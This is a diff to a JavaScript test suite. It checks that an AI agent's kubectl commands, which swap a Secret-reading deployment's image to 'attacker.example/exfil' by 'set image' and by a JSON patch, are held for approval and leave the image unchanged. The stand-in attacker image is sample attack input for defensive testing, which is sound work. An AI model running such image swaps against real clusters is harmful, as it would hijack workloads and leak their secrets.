@@ -75,10 +75,9 @@ const deploymentImage = async () => JSON.parse(await admin(['get', 'deployment',
 test('kubectl set image on a workload that reads a Secret (and runs as another service account) is held: the patch names neither', async () => {
   const set = await agentKubectl('set', 'image', 'deployment/api', 'c=attacker.example/exfil:latest')
   assert.is.not(set.code, 0, set.out)
-  assert.match(set.err, 'changes what an existing workload runs', set.err)
   assert.match(set.err, 'held for approval', set.err)
   const edit = await agentKubectl('patch', 'deployment', 'api', '--type=json', '-p', JSON.stringify([{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'attacker.example/exfil' }]))
-  assert.match(edit.err, 'changes what an existing workload runs', edit.err)
+  assert.match(edit.err, 'held for approval', edit.err)
   const c = await deploymentImage()
   assert.equal([c.image, c.command], ['busybox', undefined])
 })
